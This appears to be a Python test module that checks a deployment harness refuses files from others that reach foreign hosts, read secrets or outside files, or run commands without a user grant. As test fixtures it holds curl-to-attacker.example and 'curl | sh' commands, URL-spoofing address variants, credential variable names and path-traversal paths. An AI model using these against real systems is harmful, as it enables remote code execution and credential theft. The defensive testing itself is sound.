"""A deployment file by somebody else: without its user's word nothing is sent, run or read."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import tempfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any, NamedTuple
from unittest import mock

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pydantic import BaseModel

from harness.deployment import Deployment, to_plain
from harness.deployment.grants import OWN_VARIABLES, PREFIX, Demand, Grants, demands
from harness.deployment.places import named_files
from harness.deployment.values import Variable, WebAddress, web_place
from harness.errors import DeploymentError, SelectionError
from harness.integrations import load
from harness.run.plugin.options import deployments
from harness.run.preflight import of_file
from harness.support.files import user_files
from tests.unit.deployment.example_files import SECRETS, written

PACKAGE = Path(user_files.__file__).parents[2]
CANARY = "canary-of-the-users-environment"
#: Variables of a user's shell, and of the harness itself.
VARIABLES = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "HOME", "aws_secret", *OWN_VARIABLES]
HOSTS = [
    *("attacker.example", "api.synthflow.ai.attacker.example", "attacker.example:8443"),
    *("127.0.0.1:2375", "localhost:8500", "[::1]:80", "169.254.169.254", "10.0.0.7"),
]
#: Writings of an address, some of which parsers read as Synthflow's host.
ADDRESSES = [
    *("https://{}/v2", "http://{}/v2", "HTTPS://{}", " https://{} "),
    *("https://api.synthflow.ai@{}/", "https://api.synthflow.ai:443@{}/v2"),
    *(
        "https://api.synthflow.ai\\@{}/",
        "https://{}\\.api.synthflow.ai/",
        "https://{}#.synthflow.ai",
    ),
    *("https://{}?https://api.synthflow.ai/", "https:{}", "https:///{}", "//{}/v2"),
    *("https://api.synthflow.ai.{}/", "https://api.synthflow.ai%2F@{}/", "https://{{line}}.{}/"),
]
COMMANDS = [["touch", "ran"], ["sh", "-c", "curl https://attacker.example"], ["./fetch"]]


class Attack(NamedTuple):
    """Changes of an example, and what they are after."""

    kind: str
    changes: dict[str, Any]


def sends_to(url: str) -> list[dict[str, Any]]:
    """Every key that has an address asked."""
    return [
        {"synthflow.api_base": url},
        {"trunks.0.api_base": url},
        {"assistants.attacker": {"did": "+12065550142", "api_base": url}},
        {"campaign.trigger": "http", "campaign.url": url},
        {"platform.report.url": url},
    ]


def reads_variable(name: str) -> list[dict[str, Any]]:
    """Every key that names a variable; the address that would get it is Synthflow's."""
    url = "https://api.synthflow.ai/v2"
    headers = {"X-Secret": name}
    return [
        {"synthflow.api_base": url, "synthflow.api_token_env": name},
        {"trunks.0.password_env": name},
        {"phones.attacker": {"account": "carrier", "user": "attacker", "password_env": name}},
        {"platform.report.url": url, "platform.report.headers_env": headers},
        {"campaign.trigger": "http", "campaign.url": url, "campaign.headers_env": headers},
        {"witness.environment": [name]},
    ]


def reads_file(path: str) -> list[dict[str, Any]]:
    """Every key that names a file."""
    pair = {"certificate": path, "private_key": path}
    found: list[dict[str, Any]] = [
        *({"ca_file": path}, {"synthflow.ca_file": path}, {"accounts.carrier.ca_file": path}),
        *({"stand_in": pair}, {"accounts.attacker": {"domain": "carrier.example", **pair}}),
        *({"numbers_csv": path}, {"platform.report.file": path}),
        *({"witness.directory": path}, {"escalation.prompt": path}),
    ]
    return found


#: ``{outside}`` is a file that the user keeps elsewhere.
PATHS = [
    *("{outside}/secret.wav", "../outside/secret.wav", "sub/../../outside/secret.wav"),
    *("link.wav", "linked/secret.wav", "./link.wav", " ../outside/secret.wav "),
]


@st.composite
def attacks(draw: st.DrawFn) -> list[Attack]:
    found: list[Attack] = []
    for kind in draw(st.sets(st.sampled_from(["host", "env", "path", "command"]))):
        match kind:
            case "host":
                address = draw(st.sampled_from(ADDRESSES)).format(draw(st.sampled_from(HOSTS)))
                changes = draw(st.sampled_from(sends_to(address)))
            case "env":
                name = draw(st.sampled_from(VARIABLES))
                changes = draw(st.sampled_from(reads_variable(name)))
            case "path":
                changes = draw(st.sampled_from(reads_file(draw(st.sampled_from(PATHS)))))
            case _:
                changes = {"witness.command": draw(st.sampled_from(COMMANDS))}
        if not any(changes.keys() & other.changes for other in found):
            found.append(Attack(kind, changes))
    return found


@contextmanager
def watched(outside: Path) -> Iterator[list[str]]:
    """What leaves the process, is started, or is read of the user's files."""
    seen: list[str] = []

    def noting(what: str) -> Callable[..., Any]:
        def note(*arguments: Any, **_: Any) -> Any:
            seen.append(f"{what} {arguments[-1]}")
            raise OSError("this is only a test")

        return note

    opened = user_files.opened

    def open_(path: Path, *arguments: Any) -> Any:
        if Path(os.path.realpath(path)).is_relative_to(outside):
            seen.append(f"reads {path}")
        return opened(path, *arguments)

    with ExitStack() as stack:
        for name in ("connect", "connect_ex", "sendto", "sendmsg"):
            stack.enter_context(mock.patch.object(socket.socket, name, noting(name)))
        stack.enter_context(mock.patch.object(socket, "getaddrinfo", noting("looks up")))
        stack.enter_context(mock.patch.object(subprocess.Popen, "__init__", noting("runs")))
        stack.enter_context(mock.patch.object(user_files, "opened", open_))
        values = dict.fromkeys((*VARIABLES, "GRANTED"), CANARY)
        del values["HARNESS_GRANT"]
        own = {name: value for name, value in os.environ.items() if name != "HARNESS_GRANT"}
        own |= {name: CANARY for name in values if name not in ("HARNESS_SITE", "HARNESS_AS_OF")}
        own |= SECRETS  # of the example: nothing else keeps it from being loaded
        stack.enter_context(mock.patch.dict(os.environ, own, clear=True))
        yield seen


@contextmanager
def sent(example_: str, attacks: Sequence[Attack]) -> Iterator[tuple[Path, Path]]:
    """The file in a directory as somebody sent it, and the user's own directory beside it."""
    with tempfile.TemporaryDirectory() as name:
        root = Path(os.path.realpath(name))
        outside, inside = root / "outside", root / "sent"
        for directory in (outside, inside / "sub"):
            directory.mkdir(parents=True)
        (outside / "secret.wav").write_text("-----BEGIN PRIVATE KEY-----\nname,did\n")
        (inside / "link.wav").symlink_to(outside / "secret.wav")
        (inside / "linked").symlink_to(outside)
        changes: dict[str, Any] = {}
        for attack in attacks:
            for place, value in attack.changes.items():
                text = json.dumps(value).replace("{outside}", str(outside))
                changes[place] = json.loads(text)
        yield written(inside, example_, changes), outside


def hostile(attacks: Sequence[Attack], example_: str) -> set[str]:
    """What a file with these is to be refused for; a simulated one reads no variable."""
    return {one.kind for one in attacks} - ({"env"} if example_.startswith("simulated") else set())


@given(st.sampled_from(["live-gladly", "live-talkdesk", "simulated-gladly"]), attacks())
@example("live-gladly", [Attack("env", reads_variable("HARNESS_FLEET_REDIS")[0])])
@example("simulated-gladly", [Attack("command", {"witness.command": COMMANDS[0]})])
@example("simulated-gladly", [Attack("host", {"accounts.carrier.stun_server": "attacker.example"})])
@example(
    "live-gladly", [Attack("host", sends_to("https://api.synthflow.ai\\@attacker.example/")[4])]
)
def test_a_file_sends_runs_and_reads_nothing_without_its_users_word(
    example_: str, drawn: list[Attack]
) -> None:
    wants = hostile(drawn, example_)
    if example_ != "simulated-gladly":
        drawn = [Attack("", {"synthflow.api_base": "https://api.synthflow.ai/v2"}), *drawn]
    with sent(example_, drawn) as (file, outside), watched(outside) as seen:
        with suppress(DeploymentError):
            assert CANARY not in json.dumps(to_plain(load(file)))
            assert wants <= {"command"}, "loaded all the same"
        with suppress(DeploymentError):  # for a plan
            load(file, secrets=False)
            assert "path" not in wants
        with suppress(DeploymentError):
            deployments([file], Grants.given(), secrets=True, commands=True)
            assert not wants, "a run would have begun"
        if wants - {"command"}:
            with pytest.raises(DeploymentError):
                of_file(file)
    assert seen == []


@pytest.mark.parametrize("url", ["https://attacker.example/v2", "https://10.0.0.7:8443/v2"])
def test_each_refusal_names_the_option_that_lets_it_pass(url: str) -> None:
    drawn = [
        Attack("host", {"synthflow.api_base": url}),
        Attack("env", {"synthflow.api_token_env": "GRANTED"}),
        Attack("path", {"platform.report.file": "../outside/report.csv"}),
        Attack("command", {"witness.command": ["sh", "-c", "curl {} | sh"]}),
    ]
    with sent("live-gladly", drawn) as (file, outside), watched(outside) as seen:
        with pytest.raises(DeploymentError) as caught:
            deployments([file], Grants(), secrets=True, commands=True)
        lines = str(caught.value).splitlines()
        assert len(lines) == 4
        words = [line.rpartition("--grant ")[2].strip("'") for line in lines]
        place = web_place(url)
        assert sorted(words) == sorted(
            ["env=GRANTED", f"host={place}", f"path={outside}/report.csv", "command"]
        )
        for left_out in words:
            granted = Grants.given([word for word in words if word != left_out])
            with pytest.raises(DeploymentError) as caught:
                deployments([file], granted, secrets=True, commands=True)
            assert str(caught.value).endswith(lines[words.index(left_out)].rpartition(": ")[2])
        (found,) = deployments([file], Grants.given(words), secrets=True, commands=True)
    assert found.synthflow is not None
    assert found.synthflow.api_token is not None
    assert found.synthflow.api_token.get_secret_value() == CANARY
    assert seen == []


# -- words of grants


@pytest.mark.parametrize(
    ("words", "demand", "allowed"),
    [
        (["host=api.acme.example"], "host=api.acme.example:443", True),
        (["host=API.acme.example"], "host=api.acme.example:8443", True),
        (["host=api.acme.example:443"], "host=api.acme.example:8443", False),
        (["host=*.acme.example"], "host=api.acme.example:443", True),
        (["host=*.acme.example"], "host=acme.example.attacker.example:443", False),
        (["host=acme.example"], "host=api.acme.example:443", False),
        (["env=ACME_*"], "env=ACME_TOKEN", True),
        (["env=ACME_*"], "env=X_ACME_TOKEN", False),
        (["env=ACME_TOKEN"], "env=ACME_TOKEN_2", False),
        ([], "env=HARNESS_ACME_TOKEN", True),
        ([], "env=HARNESS_ALERTS", False),
        (["env=HARNESS_ALERTS"], "env=HARNESS_ALERTS", True),
        (["path=/srv/calls"], "path=/srv/calls/a/ca.pem", True),
        (["path=/srv/calls"], "path=/srv/calls-of-others/ca.pem", False),
        (["path=/srv/calls/../other"], "path=/srv/other/ca.pem", True),
        (["command"], "command=sh -c true", True),
        (["env=command"], "command=sh -c true", False),
    ],
)
def test_a_word_grants_what_it_names(words: list[str], demand: str, allowed: bool) -> None:
    kind, _, what = demand.partition("=")
    wanted = Demand(kind=kind, where="x", what=what)  # type: ignore[arg-type]  # one of its kinds
    with mock.patch.dict(os.environ, {"HARNESS_GRANT": ""}):
        assert Grants.given(words).allows(wanted) is allowed


@pytest.mark.parametrize(
    ("place", "url", "is_free"),
    [
        ("synthflow.api_base", "https://api.synthflow.ai/v2", True),
        ("assistants.*.api_base", "https://api.eu.synthflow.ai/v2", True),
        ("trunks.*.api_base", "HTTPS://API.us.synthflow.ai:443/v2", True),
        ("synthflow.api_base", "https://api.synthflow.ai:8443/v2", False),
        ("synthflow.api_base", "https://api.synthflow.ai./v2", False),
        ("synthflow.api_base", "https://synthflow.ai/v2", False),
        ("campaign.url", "https://api.synthflow.ai/v2/calls", False),
        ("platform.report.url", "https://api.synthflow.ai/v2/calls", False),
    ],
)
def test_synthflows_api_is_asked_as_documented(place: str, url: str, is_free: bool) -> None:
    """With the user's token, a request of the file's own making could start any call."""
    plain = _nested(place.split("."), url)
    assert (not Grants().needed(plain, Path("/sent"))) is is_free


def test_synthflows_api_with_a_certificate_authority_of_the_file_needs_a_word() -> None:
    """Its author could answer in Synthflow's place, and read the token."""
    table = {"api_base": "https://api.synthflow.ai/v2", "ca_file": "ca.pem"}
    (found,) = Grants().needed({"synthflow": table}, Path("/sent"))
    assert found.grant == "host=api.synthflow.ai:443"


def test_links_within_the_directory_of_a_file_need_no_word(tmp_path: Path) -> None:
    """As Kubernetes mounts a ConfigMap."""
    (tmp_path / "..2026").mkdir()
    (tmp_path / "..2026" / "dids.csv").touch()
    (tmp_path / "..data").symlink_to("..2026")
    (tmp_path / "dids.csv").symlink_to("..data/dids.csv")
    (tmp_path / "linked").symlink_to(tmp_path)
    for directory in (tmp_path, tmp_path / "linked"):
        for name in ("dids.csv", "linked/dids.csv", "..data/dids.csv", str(tmp_path / "dids.csv")):
            assert Grants().needed({"numbers_csv": name}, directory) == []


def test_a_secret_in_the_place_of_its_variable_is_in_no_line() -> None:
    table = {"api_base": "https://api.synthflow.ai/v2", "api_token_env": "hunter2"}
    plain = {"synthflow": table, "witness": {"environment": ["hunter2"]}}
    lines = [*Grants().outlook(plain, Path("/sent"))]
    lines += [str(Grants().refusal(one)) for one in demands(plain, Path("/sent"))]
    assert len(lines) == 6
    assert "hunter2" not in "".join(lines)


@pytest.mark.parametrize("word", ["", "host", "host=", "env=", "commands", "command=x", "Host=x"])
def test_another_word_is_a_mistake(word: str) -> None:
    with pytest.raises(SelectionError, match="allowed: env=NAME, host=HOST, path=DIR"):
        Grants.given([word])


def test_the_environment_grants_all_but_a_command(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HARNESS_GRANT", "env=A_* 'path=/with blank' host=h.example")
    found = Grants.given(["env=B"])
    assert (found.env, found.path, found.command) == (("B", "A_*"), ("/with blank",), False)
    for wrong in ("command", "env=A 'host=", "everything"):
        monkeypatch.setenv("HARNESS_GRANT", wrong)
        with pytest.raises(SelectionError, match="HARNESS_GRANT"):
            Grants.given()


def test_variables_of_the_harness_itself_are_all_known() -> None:
    """A new one might hold a secret as well."""
    named = {
        name
        for file in PACKAGE.rglob("*.py")
        for name in re.findall(r'"(HARNESS_[A-Z_]+)"', file.read_text(encoding="utf-8"))
    }
    read = {name for name in named if not name.endswith("_PASSWORD")}  # of harness init's files
    assert read | {"HARNESS_GRANT"} >= OWN_VARIABLES - {"HARNESS_FLEET_TASK"}
    assert {name for name in read if name != PREFIX} - OWN_VARIABLES == set()


def fields(model: type[BaseModel], where: str = "") -> Iterator[tuple[str, str]]:
    """Each key of a deployment file, with its annotation."""
    for name, field in model.model_fields.items():
        place = f"{where}.{field.alias or name}".strip(".")
        text = repr(field.annotation) + repr(field.metadata)
        yield place, text
        for inner in _models(field.annotation):
            is_many = "dict[" in text or "tuple[" in text
            yield from fields(inner, f"{place}.*" if is_many else place)


def _models(annotation: Any) -> Iterator[type[BaseModel]]:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield annotation
    for inner in getattr(annotation, "__args__", ()):
        yield from _models(inner)


@pytest.mark.parametrize(
    ("validator", "kind"), [(Variable, "env"), (WebAddress, "host")], ids=["variables", "addresses"]
)
def test_each_key_with_a_variable_or_an_address_is_asked_for(validator: Any, kind: str) -> None:
    """A key that a later version adds, too."""
    (check,) = validator.__metadata__
    value = {"env": "SOME_SECRET", "host": "https://attacker.example/"}[kind]
    keys = [place for place, text in fields(Deployment) if check.func.__name__ in text]
    assert len(keys) >= 5
    for key in keys:
        is_map = key.endswith("headers_env")
        plain = _nested(key.split("."), {"x": value} if is_map else value)
        plain = _nested(key.split("."), [value]) if key == "witness.environment" else plain
        found = [one.what for one in demands(plain, Path("/sent")) if one.kind == kind]
        assert len(found) == 1, key


def _nested(keys: Sequence[str], value: Any) -> dict[str, Any]:
    first, *rest = keys
    if not rest:
        return {first: value}
    return {"x" if first == "*" else first: _nested(rest, value)}


@pytest.mark.parametrize("key", ["ca_file", "certificate", "private_key", "file", "directory"])
def test_each_key_with_a_file_is_known(key: str) -> None:
    keys = [place for place, _ in fields(Deployment) if place.rpartition(".")[2] == key]
    assert keys
    for place in keys:
        assert list(named_files(_nested(place.split("."), "x.pem"))), place
